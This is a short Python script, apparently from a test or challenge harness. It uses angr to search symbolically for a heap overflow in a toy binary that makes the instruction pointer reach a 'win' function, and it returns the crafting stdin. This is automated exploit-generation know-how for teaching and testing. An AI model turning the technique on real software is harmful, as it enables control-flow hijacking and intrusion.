"""Exploit finding over glibc's own allocator: the libraries loaded (``auto_load_libs=True``) with
``calloc`` left to glibc (``exclude_sim_procedures_list``), unconstrained states saved, ``step()``
until the handler called through the overflowed heap record is symbolic, then ``rip == win``
(the layout natively: the name's chunk, then the record's chunk header, then the handler)."""
import angr

PROGRAM = "sc_chunks_O0"
EXPECT = b"You win!"


def solve(binary, attach):
    proj = angr.Project(binary, auto_load_libs=True, exclude_sim_procedures_list=["calloc"])
    state = proj.factory.entry_state(add_options={angr.options.ZERO_FILL_UNCONSTRAINED_MEMORY,
                                                  angr.options.ZERO_FILL_UNCONSTRAINED_REGISTERS})
    simgr = proj.factory.simulation_manager(state, save_unconstrained=True)
    attach(simgr)
    win = proj.loader.find_symbol("win").rebased_addr
    for _ in range(3000):
        if simgr.unconstrained or not simgr.active:
            break
        simgr.step()
    for s in simgr.unconstrained:
        if s.solver.satisfiable(extra_constraints=[s.regs.rip == win]):
            s.add_constraints(s.regs.rip == win)
            return {"stdin": s.posix.dumps(0)}
    raise AssertionError(f"no controllable handler call: {simgr}")
